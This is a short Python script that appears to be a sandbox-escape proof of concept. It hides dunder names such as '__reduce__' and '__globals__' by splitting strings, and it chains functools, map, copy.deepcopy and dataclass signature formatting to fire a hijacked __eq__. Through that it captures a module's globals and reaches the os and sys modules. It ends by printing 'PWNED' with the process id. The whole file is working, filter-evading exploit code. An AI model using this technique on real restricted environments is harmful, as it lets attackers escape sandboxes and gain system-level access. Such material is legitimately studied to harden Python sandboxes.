import functools, abc, dataclasses, copy, operator

box = {}
class W:
    def __setattr__(self, k, v):
        box[k] = v
uw = functools.wraps((1).__add__).func
uw(W(), (1).__add__, ("__red" + "uce__",), ())
g, _ = box["__red" + "uce__"]()

sink = []
outer = map(sink.append, map(g, [type(abc.ABC).register], ["__glo" + "bals__"]))
class RC:
    # inspect.formatannotation: `if getattr(annotation, '__module__', None) == 'typing':`
    __eq__ = functools.partial(functools.reduce, operator.is_, outer)
    __hash__ = None
class Ann:
    pass
ann = Ann()
ann.a = 1
memo = {}
copy.deepcopy(ann, memo)
for v in memo[id(memo)]:
    if type(v) is dict:
        v["__mod" + "ule__"] = RC()

# a plain dataclass: its __doc__ is made from str(inspect.signature(cls)), which formats the
# annotation of each field
@dataclasses.dataclass
class D:
    x: ann = 0
G = sink[0]
print("PW" + "NED", type(G).__name__, G["o" + "s"].getpid(), len(G["s" + "ys"].modules))
